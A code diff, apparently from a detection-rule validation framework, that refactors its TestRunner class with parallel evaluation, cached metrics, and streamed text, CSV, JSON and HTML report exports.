             self.results.append(TestResult(event=event, detection=detection))
-            if progress_callback:
-                progress_callback(i + 1, total)
+
+    def _run_parallel(
+        self,
+        engine_blob: bytes,
+        workers: int,
+        progress_callback: Optional[Callable[[int, int], None]],
+        collect_timings: bool = True,
+    ) -> list[TestResult]:
+        """Evaluate events in contiguous chunks across a process pool."""
+        total = len(self.events)
+        size  = max(1, total // (workers * 4))
+        spans = [(lo, min(lo + size, total)) for lo in range(0, total, size)]
+        done  = 0
+        chunks: list[Optional[tuple]] = [None] * len(spans)
+        with ProcessPoolExecutor(max_workers=workers) as pool:
+            futures = {
+                pool.submit(_evaluate_chunk, engine_blob,
+                            [e.log_data for e in self.events[lo:hi]],
+                            collect_timings): n
+                for n, (lo, hi) in enumerate(spans)
+            }
+            for fut in as_completed(futures):
+                n = futures[fut]
+                chunks[n] = fut.result()
+                done += spans[n][1] - spans[n][0]
+                if progress_callback:
+                    progress_callback(done, total)
+
+        for (lo, hi), (detections, elapsed) in zip(spans, chunks):
+            elapsed = round(elapsed, 3)
+            for event, detection in zip(self.events[lo:hi], detections):
+                detection.event_id          = event.event_id
+                detection.execution_time_ms = elapsed
+                self.results.append(TestResult(event=event, detection=detection))
         return self.results
 
     # ── Metrics ──────────────────────────────────────────────────────────────
@@ -1124,16 +1660,49 @@ class TestRunner:
         """
         Compute and return all detection quality metrics.
 
-        Auto-runs if results are empty.
+        Auto-runs if results are empty.  The metrics are computed once per
+        results/grading state; each call returns its own deep copy, so callers
+        may modify it without affecting later reports.
+        """
+        return copy.deepcopy(self._metrics)
+
+    @property
+    def _metrics(self) -> dict:
+        """
+        Internal get_metrics() result; never hand out.
+
+        Recomputed whenever `results` is reassigned or grows, or any grading
+        weight or threshold changes, so edits to the public attributes show
+        up in the next report just as without the memo.
         """
         if not self.results:
             self.run()
-
-        counts = Counter(r.outcome for r in self.results)
-        tp = counts["TP"]
-        fp = counts["FP"]
-        tn = counts["TN"]
-        fn = counts["FN"]
+        g   = self.grading
+        key = (g.f1_weight, g.evasion_weight, g.fp_weight,
+               tuple(g.grade_thresholds.items()))
+        memo = self._metrics_cache
+        if (memo is None or memo[0] is not self.results
+                or memo[1] != len(self.results) or memo[2] != key):
+            memo = self._metrics_cache = (
+                self.results, len(self.results), key, self._compute_metrics(),
+            )
+        return memo[3]
+
+    def _compute_metrics(self) -> dict:
+        # Single fused pass: outcome histogram indexed by _outcome_idx, plus
+        # per-category [total, passed, matched] and the execution-time sum.
+        counts  = [0, 0, 0, 0]
+        per_cat = {cat: [0, 0, 0] for cat in EventCategory}
+        exec_ms = 0.0
+        for r in self.results:
+            counts[r._outcome_idx] += 1
+            d = r.detection
+            c = per_cat[r.event.category]
+            c[0] += 1
+            c[1] += r.passed
+            c[2] += d.matched
+            exec_ms += d.execution_time_ms
+        tp, fp, tn, fn = counts
         total = len(self.results)
 
         accuracy  = (tp + tn) / total                        if total              else 0.0
@@ -1142,28 +1711,22 @@ class TestRunner:
         f1        = 2 * precision * recall / (precision + recall) if (precision + recall) else 0.0
 
         # Evasion sub-metrics
-        evasion_events = [r for r in self.results if r.event.category == EventCategory.EVASION]
-        evasion_caught = sum(1 for r in evasion_events if r.detection.matched)
-        evasion_total  = len(evasion_events)
+        evasion_total, _, evasion_caught = per_cat[EventCategory.EVASION]
         # Only compute evasion resistance if we have evasion events; else None
         evasion_resistance = (evasion_caught / evasion_total) if evasion_total else None
 
         # FP candidate stress test
-        fp_candidates       = [r for r in self.results
-                                if r.event.category == EventCategory.FALSE_POSITIVE_CANDIDATE]
-        fp_cand_triggered   = sum(1 for r in fp_candidates if r.detection.matched)
+        fp_cand_total, _, fp_cand_triggered = per_cat[EventCategory.FALSE_POSITIVE_CANDIDATE]
 
-        # Per-category breakdown
+        # Per-category breakdown (EventCategory order, non-empty categories only)
         category_breakdown: dict[str, dict] = {}
-        for cat in EventCategory:
-            cat_results = [r for r in self.results if r.event.category == cat]
-            if cat_results:
-                passed = sum(1 for r in cat_results if r.passed)
+        for cat, (n, passed, _) in per_cat.items():
+            if n:
                 category_breakdown[cat.value] = {
-                    "total":     len(cat_results),
+                    "total":     n,
                     "passed":    passed,
-                    "failed":    len(cat_results) - passed,
-                    "pass_rate": round(passed / len(cat_results), 4),
+                    "failed":    n - passed,
+                    "pass_rate": round(passed / n, 4),
                 }
 
         # Composite score & grade
@@ -1191,8 +1754,7 @@ class TestRunner:
                 score = 0.0
         grade = g.compute_grade(score)
 
-        avg_time = (sum(r.detection.execution_time_ms for r in self.results) / total
-                    if total else 0.0)
+        avg_time = exec_ms / total if total else 0.0
 
         return {
             "confusion_matrix": {"TP": tp, "FP": fp, "TN": tn, "FN": fn},
@@ -1205,12 +1767,12 @@ class TestRunner:
             "evasion_caught":          evasion_caught,
             "evasion_total":           evasion_total,
             "fp_candidates_triggered": fp_cand_triggered,
-            "fp_candidates_total":     len(fp_candidates),
+            "fp_candidates_total":     fp_cand_total,
             "overall_grade":           grade,
             "composite_score":         round(score, 4),
             "total_events":            total,
-            "total_passed":            sum(1 for r in self.results if r.passed),
-            "total_failed":            sum(1 for r in self.results if not r.passed),
+            "total_passed":            tp + tn,
+            "total_failed":            fp + fn,
             "category_breakdown":      category_breakdown,
             "avg_execution_time_ms":   round(avg_time, 3),
         }
@@ -1222,14 +1784,25 @@ class TestRunner:
 
         NEW in v3.
         """
-        return [r for r in self.results if r.outcome == outcome.upper()]
+        outcome = outcome.upper()
+        return [r for r in self.results if r.outcome == outcome]
 
     def get_failures(self) -> list[TestResult]:
         """Return all results where reality did not match expectation (FP + FN).
 
         NEW in v3.
         """
-        return [r for r in self.results if not r.passed]
+        return list(self.failures)
+
+    @property
+    def failures(self) -> list[TestResult]:
+        """FP + FN results, memoised per results list and length; do not mutate."""
+        memo = self._failures_cache
+        if memo is None or memo[0] is not self.results or memo[1] != len(self.results):
+            memo = self._failures_cache = (
+                self.results, len(self.results), [r for r in self.results if not r.passed],
+            )
+        return memo[2]
 
     def get_true_positives(self) -> list[TestResult]:
         """Return all TP results. NEW in v3."""
@@ -1247,7 +1820,7 @@ class TestRunner:
         """Return all evasion variants the rule failed to catch. NEW in v3."""
         return [
             r for r in self.results
-            if r.event.category == EventCategory.EVASION and not r.passed
+            if r.event.category is EventCategory.EVASION and not r.passed
         ]
 
     def iter_results(self) -> Iterator[TestResult]:
@@ -1260,6 +1833,9 @@ class TestRunner:
         """
         Print a formatted validation report to stdout.
 
+        The report is assembled in memory and written with a single
+        sys.stdout.write(), rather than one print() (lock + flush) per line.
+
         Args:
             recommendations: Optional list of recommendation dicts from
                              generate_recommendations() in app.py.
@@ -1270,84 +1846,92 @@ class TestRunner:
         if not self.results:
             self.run()
 
-        m  = self.get_metrics()
+        m  = self._metrics
         cm = m["confusion_matrix"]
 
-        W = 80
-        print("=" * W)
-        print(f"  DETECTION RULE VALIDATION REPORT  v{__version__}")
-        print(f"  Rule    : {self.engine.rule_name}")
-        print(f"  Date    : {datetime.datetime.now(datetime.timezone.utc).strftime('%Y-%m-%d %H:%M:%S')} UTC")
-        print(f"  Events  : {m['total_events']}  (seed-reproducible)")
-        print("=" * W)
+        W     = 80
+        rule  = "=" * W
+        dbl   = "═" * W
+        sep50 = f"  {'─'*50}"
+        sep92 = f"  {'─'*92}"
+        out: list[str] = []
+        emit = out.append
+
+        emit(rule)
+        emit(f"  DETECTION RULE VALIDATION REPORT  v{__version__}")
+        emit(f"  Rule    : {self.engine.rule_name}")
+        emit(f"  Date    : {datetime.datetime.now(_UTC).strftime('%Y-%m-%d %H:%M:%S')} UTC")
+        emit(f"  Events  : {m['total_events']}  (seed-reproducible)")
+        emit(rule)
 
         # Confusion matrix
-        print("\n  ┌──────────────────────────────────────────────┐")
-        print(  "  │              CONFUSION MATRIX                │")
-        print(  "  ├──────────────────────┬───────────────────────┤")
-        print(f"  │  True  Positives: {cm['TP']:>3}  │  False Positives: {cm['FP']:>3}  │")
-        print(f"  │  False Negatives: {cm['FN']:>3}  │  True  Negatives: {cm['TN']:>3}  │")
-        print(  "  └──────────────────────┴───────────────────────┘")
+        emit("\n  ┌──────────────────────────────────────────────┐")
+        emit(  "  │              CONFUSION MATRIX                │")
+        emit(  "  ├──────────────────────┬───────────────────────┤")
+        emit(f"  │  True  Positives: {cm['TP']:>3}  │  False Positives: {cm['FP']:>3}  │")
+        emit(f"  │  False Negatives: {cm['FN']:>3}  │  True  Negatives: {cm['TN']:>3}  │")
+        emit(  "  └──────────────────────┴───────────────────────┘")
 
         # Scalar metrics
         ev_r_str = (f"{m['evasion_resistance']:.1%}  ({m['evasion_caught']}/{m['evasion_total']} caught)"
                     if m["evasion_resistance"] is not None else "N/A (no evasion events)")
-        print(f"\n  {'─'*50}")
-        print(f"  Accuracy          : {m['accuracy']:.1%}")
-        print(f"  Precision         : {m['precision']:.1%}")
-        print(f"  Recall            : {m['recall']:.1%}")
-        print(f"  F1 Score          : {m['f1_score']:.1%}")
-        print(f"  Evasion Resistance: {ev_r_str}")
-        print(f"  FP Stress Test    : {m['fp_candidates_triggered']}/{m['fp_candidates_total']} triggered")
-        print(f"  Avg Eval Time     : {m['avg_execution_time_ms']:.3f} ms")
-        print(f"  {'─'*50}")
-        print(f"  OVERALL GRADE     : {m['overall_grade']}  (composite {m['composite_score']:.2f})")
-        print(f"  Tests Passed      : {m['total_passed']}/{m['total_events']}")
-        print(f"  {'─'*50}")
+        emit(f"\n{sep50}")
+        emit(f"  Accuracy          : {m['accuracy']:.1%}")
+        emit(f"  Precision         : {m['precision']:.1%}")
+        emit(f"  Recall            : {m['recall']:.1%}")
+        emit(f"  F1 Score          : {m['f1_score']:.1%}")
+        emit(f"  Evasion Resistance: {ev_r_str}")
+        emit(f"  FP Stress Test    : {m['fp_candidates_triggered']}/{m['fp_candidates_total']} triggered")
+        emit(f"  Avg Eval Time     : {m['avg_execution_time_ms']:.3f} ms")
+        emit(sep50)
+        emit(f"  OVERALL GRADE     : {m['overall_grade']}  (composite {m['composite_score']:.2f})")
+        emit(f"  Tests Passed      : {m['total_passed']}/{m['total_events']}")
+        emit(sep50)
 
         # Per-category breakdown
         if m.get("category_breakdown"):
-            print(f"\n  Per-Category Results:")
+            emit(f"\n  Per-Category Results:")
             for cat_name, cat_data in m["category_breakdown"].items():
                 bar_len = int(cat_data["pass_rate"] * 20)
                 bar = "█" * bar_len + "░" * (20 - bar_len)
-                print(f"    {cat_name:<22} {cat_data['passed']:>2}/{cat_data['total']:<2} "
-                      f"[{bar}] {cat_data['pass_rate']:.0%}")
-
-        # Per-event table
-        print(f"\n  {'─'*92}")
-        print(f"  {'ID':<10} {'Category':<18} {'Expected':<9} {'Actual':<9} "
-              f"{'Conf':>5}  {'Outcome':<6}  Description")
-        print(f"  {'─'*92}")
+                emit(f"    {cat_name:<22} {cat_data['passed']:>2}/{cat_data['total']:<2} "
+                     f"[{bar}] {cat_data['pass_rate']:.0%}")
+
+        # Per-event table — category columns are padded once per category,
+        # not once per row
+        emit(f"\n{sep92}")
+        emit(f"  {'ID':<10} {'Category':<18} {'Expected':<9} {'Actual':<9} "
+             f"{'Conf':>5}  {'Outcome':<6}  Description")
+        emit(sep92)
+        cat_cols = {cat: f"{cat.value[:16]:<18}" for cat in EventCategory}
         for r in self.results:
             expected = "DETECT" if r.event.expected_detection else "IGNORE"
             actual   = "DETECT" if r.detection.matched        else "IGNORE"
-            conf_str = f"{r.detection.confidence_score:.2f}" if r.detection.matched else "  —  "
+            conf_str = format(r.detection.confidence_score, ".2f") if r.detection.matched else "  —  "
             marker   = "✓" if r.passed else "✗"
-            cat      = r.event.category.value[:16]
             desc     = r.event.description[:40]
-            print(f"  {r.event.event_id:<10} {cat:<18} {expected:<9} {actual:<9} "
-                  f"{conf_str:>5}  [{marker}] {r.outcome:<4}  {desc}")
+            emit(f"  {r.event.event_id:<10} {cat_cols[r.event.category]} {expected:<9} {actual:<9} "
+                 f"{conf_str:>5}  [{marker}] {r.outcome:<4}  {desc}")
 
         # Failure details
-        failures = self.get_failures()
+        failures = self.failures
         if failures:
-            print(f"\n{'═'*W}")
-            print(f"  FAILURE DETAILS  ({len(failures)} events)")
-            print(f"{'═'*W}")
+            emit(f"\n{dbl}")
+            emit(f"  FAILURE DETAILS  ({len(failures)} events)")
+            emit(dbl)
             for r in failures:
-                print(f"\n  [{r.outcome}] {r.event.event_id}: {r.event.description}")
-                print(f"  Category : {r.event.category.value}")
+                emit(f"\n  [{r.outcome}] {r.event.event_id}: {r.event.description}")
+                emit(f"  Category : {r.event.category.value}")
                 if r.event.attack_technique:
-                    print(f"  MITRE    : {r.event.attack_technique}")
+                    emit(f"  MITRE    : {r.event.attack_technique}")
                 if r.event.notes:
-                    print(f"  Notes    : {r.event.notes}")
+                    emit(f"  Notes    : {r.event.notes}")
                 if r.detection.matched_conditions:
-                    print(f"  Matched  : {', '.join(r.detection.matched_conditions[:4])}")
+                    emit(f"  Matched  : {', '.join(r.detection.matched_conditions[:4])}")
                 log_str = json.dumps(r.event.log_data, indent=2)
                 if len(log_str) > 600:
                     log_str = log_str[:600] + "\n  …"
-                print(f"  Log data :\n{log_str}")
+                emit(f"  Log data :\n{log_str}")
 
         # Recommendations section
         if recommendations:
@@ -1356,21 +1940,25 @@ class TestRunner:
             recs_to_show = self._basic_recommendations(m)
 
         if recs_to_show:
-            print(f"\n{'═'*W}")
-            print(f"  RECOMMENDATIONS  ({len(recs_to_show)} items)")
-            print(f"{'═'*W}")
+            emit(f"\n{dbl}")
+            emit(f"  RECOMMENDATIONS  ({len(recs_to_show)} items)")
+            emit(dbl)
             for rec in recs_to_show:
                 pri = rec.get("priority", "info").upper()
-                print(f"\n  [{pri}] {rec.get('title','')}")
+                emit(f"\n  [{pri}] {rec.get('title','')}")
                 if rec.get("body"):
                     for line in rec["body"].splitlines():
-                        print(f"    {line}")
+                        emit(f"    {line}")
                 if rec.get("fix"):
-                    print(f"  → FIX: {rec['fix'][:120]}")
+                    emit(f"  → FIX: {rec['fix'][:120]}")
+
+        emit(f"\n{dbl}")
+        emit(f"  END OF REPORT")
+        emit(f"{dbl}\n")
 
-        print(f"\n{'═'*W}")
-        print(f"  END OF REPORT")
-        print(f"{'═'*W}\n")
+        emit("")  # print()-style trailing newline
+        sys.stdout.write("\n".join(out))
+        sys.stdout.flush()
 
     def _basic_recommendations(self, m: dict) -> list[dict]:
         """
@@ -1433,13 +2021,13 @@ class TestRunner:
             "framework_version": __version__,
             "rule_name":         self.engine.rule_name,
             "rule_metadata":     self.engine.rule_metadata,
-            "generated_at":      datetime.datetime.now(datetime.timezone.utc).isoformat(),
+            "generated_at":      datetime.datetime.now(_UTC).isoformat(),
             "metrics":           self.get_metrics(),
-            "recommendations":   recommendations or self._basic_recommendations(self.get_metrics()),
+            "recommendations":   recommendations or self._basic_recommendations(self._metrics),
             "results": [
                 {
                     "event_id":           r.event.event_id,
-                    "category":           r.event.category.value,
+                    "category":           r.event._category_str,
                     "description":        r.event.description,
                     "attack_technique":   r.event.attack_technique,
                     "expected_detection": r.event.expected_detection,
@@ -1452,68 +2040,138 @@ class TestRunner:
                     "log_data":           r.event.log_data,
                     "notes":              r.event.notes,
                     "tags":               r.event.tags,
-                    "source":             "real" if "imported" in (r.event.tags or []) else "synthetic",
+                    "source":             "real" if r.event._is_imported else "synthetic",
                 }
                 for r in self.results
             ],
         }
         return payload
 
-    def export_csv(
+    def export_report_json_bytes(
         self,
         recommendations: Optional[list[dict]] = None,
-    ) -> str:
+    ) -> bytes:
         """
-        Return a CSV string containing metrics, recommendations, and per-event rows.
+        Return export_report_json() serialised as compact UTF-8 JSON bytes.
 
-        Matches the format expected by app.py's build_csv_export().
-        NEW in v3.
+        Compact separators keep json on its C encoder (any indent falls back
+        to the pure-Python one), and ensure_ascii=False skips \\u-escaping of
+        non-ASCII log text, so this is the fast path for large payloads that
+        go straight to a socket or file.
+        """
+        return json.dumps(
+            self.export_report_json(recommendations),
+            ensure_ascii=False,
+            separators=(",", ":"),
+        ).encode("utf-8")
+
+    def iter_csv(
+        self,
+        recommendations: Optional[list[dict]] = None,
+    ) -> Iterator[str]:
+        """
+        Yield the export_csv() document one CSV line at a time.
+
+        Sections are emitted in the same order as export_csv() (metrics,
+        confusion matrix, recommendations, per-event rows) without buffering
+        the whole document, so callers can stream it to disk or over HTTP.
         """
         if not self.results:
             self.run()
-        buf = io.StringIO()
-        w   = csv.writer(buf)
+        # csv.writer returns whatever its file's write() returns, so an echo
+        # sink turns each writerow() call into the formatted line itself.
+        row = csv.writer(_CsvEcho()).writerow
 
-        m = self.get_metrics()
-        w.writerow(["=== METRICS ==="])
+        m = self._metrics
+        yield row(["=== METRICS ==="])
         for k, v in m.items():
             if not isinstance(v, dict):
-                w.writerow([k, v])
-        w.writerow([])
+                yield row([k, v])
+        yield row([])
         cm = m.get("confusion_matrix", {})
-        w.writerow(["=== CONFUSION MATRIX ==="])
+        yield row(["=== CONFUSION MATRIX ==="])
         for k, v in cm.items():
-            w.writerow([k, v])
-        w.writerow([])
+            yield row([k, v])
+        yield row([])
 
         recs = recommendations or self._basic_recommendations(m)
-        w.writerow(["=== RECOMMENDATIONS ==="])
-        w.writerow(["priority", "title", "body", "fix"])
+        yield row(["=== RECOMMENDATIONS ==="])
+        yield row(["priority", "title", "body", "fix"])
         for r in recs:
-            w.writerow([r.get("priority", ""), r.get("title", ""),
-                        r.get("body", ""), r.get("fix", "")])
-        w.writerow([])
-
-        w.writerow(["=== EVENT RESULTS ==="])
-        w.writerow(["event_id", "category", "description", "expected",
-                    "actual", "outcome", "passed", "confidence",
-                    "matched_conditions", "source", "tags"])
-        for r in self.results:
-            is_real = "imported" in (r.event.tags or [])
-            w.writerow([
-                r.event.event_id,
-                r.event.category.value,
-                r.event.description,
-                r.event.expected_detection,
-                r.detection.matched,
-                r.outcome,
-                r.passed,
-                f"{r.detection.confidence_score:.2f}",
-                "; ".join(r.detection.matched_conditions),
-                "real" if is_real else "synthetic",
-                ", ".join(r.event.tags or []),
-            ])
-        return buf.getvalue()
+            yield row([r.get("priority", ""), r.get("title", ""),
+                       r.get("body", ""), r.get("fix", "")])
+        yield row([])
+
+        yield row(["=== EVENT RESULTS ==="])
+        yield row(["event_id", "category", "description", "expected",
+                   "actual", "outcome", "passed", "confidence",
+                   "matched_conditions", "source", "tags"])
+        # Event rows go through writerows() a chunk at a time: the C writer
+        # formats the whole chunk in one call, and memory stays bounded.
+        buf     = io.StringIO()
+        put     = csv.writer(buf).writerows
+        results = self.results
+        for lo in range(0, len(results), _CSV_CHUNK):
+            rows = []
+            for r in results[lo:lo + _CSV_CHUNK]:
+                e, d = r.event, r.detection
+                rows.append((
+                    e.event_id,
+                    e._category_str,
+                    e.description,
+                    e.expected_detection,
+                    d.matched,
+                    r.outcome,
+                    r.passed,
+                    format(d.confidence_score, ".2f"),
+                    "; ".join(d.matched_conditions),
+                    "real" if e._is_imported else "synthetic",
+                    ", ".join(e.tags or ()),
+                ))
+            put(rows)
+            yield buf.getvalue()
+            buf.seek(0)
+            buf.truncate()
+
+    def export_csv(
+        self,
+        recommendations: Optional[list[dict]] = None,
+    ) -> str:
+        """
+        Return a CSV string containing metrics, recommendations, and per-event rows.
+
+        Matches the format expected by app.py's build_csv_export().
+        NEW in v3.
+        """
+        return "".join(self.iter_csv(recommendations))
+
+    def export_csv_to_file(
+        self,
+        fh: TextIO,
+        recommendations: Optional[list[dict]] = None,
+    ) -> None:
+        """Stream the export_csv() document into an open text file handle.
+
+        Open *fh* with newline="" so the CSV \\r\\n line endings pass through.
+        """
+        fh.writelines(self.iter_csv(recommendations))
+
+    def export_csv_bytes(
+        self,
+        recommendations: Optional[list[dict]] = None,
+    ) -> bytes:
+        """
+        Return the export_csv() document as UTF-8 bytes (e.g. for downloads).
+
+        Lines are encoded as they are written into a BytesIO, so no full-size
+        str copy is built and then re-encoded.
+        """
+        bio = io.BytesIO()
+        tw  = io.TextIOWrapper(bio, encoding="utf-8", newline="", write_through=True)
+        self.export_csv_to_file(tw, recommendations)
+        tw.flush()
+        tw.detach()  # keep bio open; the wrapper would close it on collection
+        return bio.getvalue()
 
     # ── HTML export ──────────────────────────────────────────────────────────
 
@@ -1535,111 +2193,35 @@ class TestRunner:
         if not self.results:
             self.run()
 
-        m    = self.get_metrics()
+        m    = self._metrics
         cm   = m["confusion_matrix"]
         recs = recommendations or self._basic_recommendations(m)
 
         grade       = m["overall_grade"]
-        gc_map      = {"A": "#10b981", "B": "#06b6d4", "C": "#f59e0b", "D": "#f97316", "F": "#ef4444"}
-        grade_color = gc_map.get(grade, "#ef4444")
-        now_str     = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%d %H:%M UTC")
-
-        # Result rows
-        rows_html = ""
-        for r in self.results:
-            cls     = "pass" if r.passed else "fail"
-            badge   = "badge-pass" if r.passed else "badge-fail"
-            expected = "DETECT" if r.event.expected_detection else "IGNORE"
-            actual   = "DETECT" if r.detection.matched else "IGNORE"
-            conf     = f"{r.detection.confidence_score:.2f}" if r.detection.matched else "—"
-            real_tag = '<span class="real-badge">REAL</span>' if "imported" in (r.event.tags or []) else ""
-            safe_desc = _html.escape(r.event.description[:55])
-            rows_html += (
-                f'<tr class="{cls}"><td>{_html.escape(r.event.event_id)}</td>'
-                f'<td>{_html.escape(r.event.category.value)}</td>'
-                f'<td>{safe_desc}{"…" if len(r.event.description) > 55 else ""}'
-                f'{real_tag}</td>'
-                f'<td>{expected}</td><td>{actual}</td><td>{conf}</td>'
-                f'<td><span class="{badge}">{r.outcome}</span></td></tr>\n'
-            )
-
-        # Failure cards
-        failures_html = ""
-        for r in self.get_failures():
-            snippet = _html.escape(json.dumps(r.event.log_data, indent=2)[:700])
-            conds   = _html.escape(", ".join(r.detection.matched_conditions[:3]) or "none matched")
-            failures_html += (
-                f'<div class="failure-card">'
-                f'<h4>[{r.outcome}] {_html.escape(r.event.event_id)}: {_html.escape(r.event.description)}</h4>'
-                f'<p><b>Category:</b> {_html.escape(r.event.category.value)}'
-                f' &nbsp;|&nbsp; <b>MITRE:</b> {_html.escape(r.event.attack_technique or "N/A")}</p>'
-                f'<p><b>Notes:</b> {_html.escape(r.event.notes or "N/A")}</p>'
-                f'<p><b>Matched conditions:</b> {conds}</p>'
-                f'<pre>{snippet}</pre></div>\n'
-            )
-
-        # Evasion breakdown
-        evasion_results = [r for r in self.results if r.event.category == EventCategory.EVASION]
-        evasion_html = ""
-        for r in evasion_results:
-            cls  = "ev-caught" if r.passed else "ev-missed"
-            icon = "✓" if r.passed else "✗"
-            evasion_html += (
-                f'<div class="{cls}">'
-                f'<span class="ev-icon">{icon}</span>'
-                f' <strong>{_html.escape(r.event.description)}</strong>'
-                f' <span class="ev-tags">{_html.escape(", ".join(r.event.tags or []))}</span>'
-                f'{"<br><em>" + _html.escape(r.event.notes) + "</em>" if r.event.notes else ""}'
-                f'</div>\n'
-            )
-
-        # Category breakdown
-        cat_html = ""
-        cat_colors = {
-            "true_positive": "#10b981", "true_negative": "#06b6d4",
-            "fp_candidate":  "#f59e0b", "evasion":       "#8b5cf6",
-        }
-        for cat_name, cat_data in m.get("category_breakdown", {}).items():
-            clr  = cat_colors.get(cat_name, "#94a3b8")
-            pct  = int(cat_data["pass_rate"] * 100)
-            cat_html += (
-                f'<div class="cat-row">'
-                f'<span class="cat-name" style="color:{clr}">'
-                f'{cat_name.replace("_", " ")}</span>'
-                f'<div class="cat-bar-wrap">'
-                f'<div class="cat-bar" style="width:{pct}%;background:{clr}"></div></div>'
-                f'<span class="cat-rate">{cat_data["passed"]}/{cat_data["total"]} '
-                f'({cat_data["pass_rate"]:.0%})</span>'
-                f'</div>\n'
-            )
-
-        # Recommendations
-        pri_colors = {
-            "critical": "#ef4444", "high": "#f97316",
-            "medium":   "#f59e0b", "low":  "#10b981", "info": "#06b6d4",
-        }
-        recs_html = ""
-        for rec in recs:
-            c = pri_colors.get(rec.get("priority", "info"), "#94a3b8")
-            recs_html += (
-                f'<div class="rec-card" style="border-left-color:{c}">'
-                f'<div class="rec-header">'
-                f'<span class="rec-badge" style="background:{c}22;color:{c};border:1px solid {c}44">'
-                f'{_html.escape(rec.get("priority","info").upper())}</span> '
-                f'<strong>{_html.escape(rec.get("title",""))}</strong></div>'
-                f'<p class="rec-body">{_html.escape(rec.get("body",""))}</p>'
-                f'<div class="rec-fix"><span style="color:{c}">FIX →</span> {_html.escape(rec.get("fix",""))}</div>'
-                f'</div>\n'
-            )
+        grade_color = _GRADE_COLORS.get(grade, "#ef4444")
+        now_str     = datetime.datetime.now(_UTC).strftime("%Y-%m-%d %H:%M UTC")
 
         ev_r_str = (f'{m["evasion_resistance"]:.1%} ({m["evasion_caught"]}/{m["evasion_total"]} caught)'
                     if m["evasion_resistance"] is not None else "N/A")
         ev_r_pct = f'{m["evasion_resistance"]:.0%}' if m["evasion_resistance"] is not None else "N/A"
+        # recs may come from the caller, so this stays an O(recs) scan
         critical_n = sum(1 for r in recs if r.get("priority") in ("critical", "high"))
-        imported_n = sum(1 for r in self.results if "imported" in (r.event.tags or []))
+
+        # One partition pass for the sections written ahead of / after the rows
+        failures: list[TestResult] = []
+        evasion:  list[TestResult] = []
+        imported_n = 0
+        for r in self.results:
+            if not r.passed:
+                failures.append(r)
+            if r.event.category is EventCategory.EVASION:
+                evasion.append(r)
+            if r.event._is_imported:
+                imported_n += 1
         safe_rule_name = _html.escape(self.engine.rule_name)
 
-        html = f"""<!DOCTYPE html>
+        # Everything up to the first per-item section; the rest is streamed.
+        head = f"""<!DOCTYPE html>
 <html lang="en">
 <head>
 <meta charset="UTF-8">
@@ -1769,37 +2351,144 @@ pre {{ background: #06090f; padding: .75rem; border-radius: 6px; overflow-x: aut
 </div>
 
 <h2>Category Breakdown</h2>
-{cat_html or "<p>No category data.</p>"}
+"""
 
-<h2>🔧 Recommendations ({len(recs)} items · {critical_n} critical/high)</h2>
-{recs_html or '<p style="color:#10b981">✓ No issues found.</p>'}
+        # Stream section by section so no per-row string is accumulated.
+        with open(path, "w", encoding="utf-8", buffering=1 << 20) as fh:
+            fh.write(head)
+            self._write_cats(fh, m.get("category_breakdown", {}))
+            fh.write(
+                f"\n\n<h2>🔧 Recommendations ({len(recs)} items · {critical_n} critical/high)</h2>\n"
+            )
+            self._write_recs(fh, recs)
+            fh.write(
+                f'\n\n<h2>Evasion Analysis &nbsp;<span style="font-weight:400;color:#475569">\n'
+                f'  ({m["evasion_caught"]}/{m["evasion_total"]} caught — {ev_r_str})</span></h2>\n'
+            )
+            self._write_evasion(fh, evasion)
+            fh.write(
+                f'\n\n<h2>All Results &nbsp;<span style="font-weight:400;color:#475569">\n'
+                f'  ({m["total_passed"]}/{m["total_events"]} passed)</span></h2>\n'
+                f'<table>\n'
+                f'<thead><tr><th>ID</th><th>Category</th><th>Description</th>\n'
+                f'<th>Expected</th><th>Actual</th><th>Conf</th><th>Result</th></tr></thead>\n'
+                f'<tbody>'
+            )
+            self._write_rows(fh, self.results)
+            fh.write(
+                f'</tbody>\n'
+                f'</table>\n'
+                f'\n'
+                f'<h2>Failure Details &nbsp;<span style="font-weight:400;color:#475569">\n'
+                f'  ({len(failures)} events)</span></h2>\n'
+            )
+            self._write_failures(fh, failures)
+            fh.write("\n\n</body></html>")
 
-<h2>Evasion Analysis &nbsp;<span style="font-weight:400;color:#475569">
-  ({m["evasion_caught"]}/{m["evasion_total"]} caught — {ev_r_str})</span></h2>
-{evasion_html or "<p>No evasion events in this run.</p>"}
+    @staticmethod
+    def _write_rows(fh: TextIO, results: list[TestResult]) -> None:
+        """Write one <tr> per result into the All Results table body."""
+        for r in results:
+            cls, badge = _ROW_CLASSES[r.passed]
+            expected   = "DETECT" if r.event.expected_detection else "IGNORE"
+            actual     = "DETECT" if r.detection.matched else "IGNORE"
+            conf       = format(r.detection.confidence_score, ".2f") if r.detection.matched else "—"
+            real_tag   = _REAL_BADGE if r.event._is_imported else ""
+            desc       = r.event.description
+            fh.write(
+                f'<tr class="{cls}"><td>{_html.escape(r.event.event_id)}</td>'
+                f'<td>{_CAT_HTML[r.event.category]}</td>'
+                f'<td>{_html.escape(desc[:55])}{"…" if len(desc) > 55 else ""}'
+                f'{real_tag}</td>'
+                f'<td>{expected}</td><td>{actual}</td><td>{conf}</td>'
+                f'<td><span class="{badge}">{r.outcome}</span></td></tr>\n'
+            )
 
-<h2>All Results &nbsp;<span style="font-weight:400;color:#475569">
-  ({m["total_passed"]}/{m["total_events"]} passed)</span></h2>
-<table>
-<thead><tr><th>ID</th><th>Category</th><th>Description</th>
-<th>Expected</th><th>Actual</th><th>Conf</th><th>Result</th></tr></thead>
-<tbody>{rows_html}</tbody>
-</table>
+    @staticmethod
+    def _write_failures(fh: TextIO, failures: list[TestResult]) -> None:
+        """Write a failure card per FP/FN result, or the zero-failures note."""
+        if not failures:
+            fh.write('<p style="color:#10b981">✓ Zero failures.</p>')
+            return
+        for r in failures:
+            snippet = _html.escape(_truncated_json(r.event.log_data, 700))
+            conds   = _html.escape(", ".join(r.detection.matched_conditions[:3]) or "none matched")
+            fh.write(
+                f'<div class="failure-card">'
+                f'<h4>[{r.outcome}] {_html.escape(r.event.event_id)}: {_html.escape(r.event.description)}</h4>'
+                f'<p><b>Category:</b> {_CAT_HTML[r.event.category]}'
+                f' &nbsp;|&nbsp; <b>MITRE:</b> {_html.escape(r.event.attack_technique or "N/A")}</p>'
+                f'<p><b>Notes:</b> {_html.escape(r.event.notes or "N/A")}</p>'
+                f'<p><b>Matched conditions:</b> {conds}</p>'
+                f'<pre>{snippet}</pre></div>\n'
+            )
 
-<h2>Failure Details &nbsp;<span style="font-weight:400;color:#475569">
-  ({len(self.get_failures())} events)</span></h2>
